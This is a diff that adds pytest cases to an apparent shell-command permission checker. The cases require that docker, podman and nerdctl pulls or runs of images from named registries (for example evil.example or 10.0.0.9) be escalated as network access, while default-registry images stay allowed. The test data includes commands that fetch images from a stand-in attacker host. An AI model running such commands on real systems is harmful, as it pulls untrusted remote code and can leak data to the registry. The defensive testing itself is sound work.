@@ -177,3 +177,31 @@ def test_a_context_set_in_the_environment_is_asked(command: str) -> None:
 )  # fmt: skip
 def test_the_default_context_stays_allowed(command: str) -> None:
     assert isinstance(bash(command), Allow), bash(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "host"),
+    [("docker pull evil.example/img", "evil.example"),
+     ("docker image pull evil.example:5000/a/b:1.2", "evil.example"),
+     ("podman run --rm evil.example/img", "evil.example"),
+     ("docker run --rm -v \"$PWD:/w\" 10.0.0.9:5000/img:1 true", "10.0.0.9"),
+     ("docker create localhost:5000/x", "localhost"),
+     ("nerdctl pull ghcr.io/org/img:1@sha256:abc", "ghcr.io")],
+)  # fmt: skip
+def test_an_image_from_a_named_registry_is_network_access_to_it(command: str, host: str) -> None:
+    """Found probing: ``docker pull evil.example/img`` was allowed; the registry at
+    ``evil.example`` is reached (and sees what the image's path carries). Docker is not
+    run here: the project's machines have its client but no daemon to pull with."""
+    verdict = bash(command)
+    assert isinstance(verdict, Escalate), verdict
+    assert f"network access to {host}" in verdict.reason, verdict.reason
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["docker pull alpine", "docker run --rm alpine:3.20 true",
+     "docker run -v data.d/x:/x alpine ls", "docker build -t evil.example/x .",
+     "docker run --rm -v \"$PWD:/w\" -w /w python:3.12 python x.py"],
+)  # fmt: skip
+def test_images_of_the_default_registry_stay_allowed(command: str) -> None:
+    assert isinstance(bash(command), Allow), bash(command)
